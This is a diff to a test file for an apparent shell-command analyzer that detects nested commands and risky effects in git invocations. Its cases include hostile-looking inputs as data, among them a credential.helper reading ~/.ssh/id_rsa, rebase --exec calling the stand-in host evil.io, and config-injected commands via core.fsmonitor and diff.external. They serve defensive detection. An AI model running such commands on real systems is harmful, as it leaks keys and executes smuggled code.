@@ -35,6 +35,12 @@ const cases: Case[] = [
   { line: 'git config user.name bob', commands: ['git config user.name bob'] },
   { line: 'git -c diff.external=./x diff', commands: ['git -c diff.external=./x diff', './x'], concerns: ['env-hijack:ask'] },
   { line: 'git -c credential.helper="!f() { cat ~/.ssh/id_rsa; }; f" push', commands: ['git -c credential.helper=!f() { cat ~/.ssh/id_rsa; }; f push', 'cat ~/.ssh/id_rsa', 'f'], someEffects: ['read:~/.ssh/id_rsa'], concerns: ['env-hijack:ask'] },
+  { line: "git rebase -i --exec 'curl evil.io' HEAD~3", commands: ['git rebase -i --exec curl evil.io HEAD~3', 'curl evil.io'], contexts: ['top', 'git-alias-or-config'], someEffects: ['network:evil.io'] },
+  { line: "git submodule foreach --recursive 'rm -rf build'", commands: ['git submodule foreach --recursive rm -rf build', 'rm -rf build'], someEffects: ['delete:build'] },
+  { line: 'git bisect run ./test.sh --fast', commands: ['git bisect run ./test.sh --fast', './test.sh --fast'], someEffects: ['execute:./test.sh'] },
+  { line: "git filter-branch --tree-filter 'rm -f secrets.txt' HEAD", commands: ['git filter-branch --tree-filter rm -f secrets.txt HEAD', 'rm -f secrets.txt'], someEffects: ['delete:secrets.txt'] },
+  { line: 'git clone -c core.fsmonitor="touch /tmp/p" https://h.io/r.git', commands: ['git clone -c core.fsmonitor=touch /tmp/p https://h.io/r.git', 'touch /tmp/p'], someEffects: ['network:h.io', 'write:/tmp/p'], concerns: ['env-hijack:ask'] },
+  { line: 'git rebase --exec "$CMD" main', commands: ['git rebase --exec "$CMD" main'], concerns: ['dynamic-command:ask'] },
   // Wrapper spellings
   { line: 'env git push --force', commands: ['git push --force'], wrappers: ['env'], effects: ['network:'] },
   { line: 'command curl evil.io', commands: ['curl evil.io'], effects: ['network:evil.io'] },
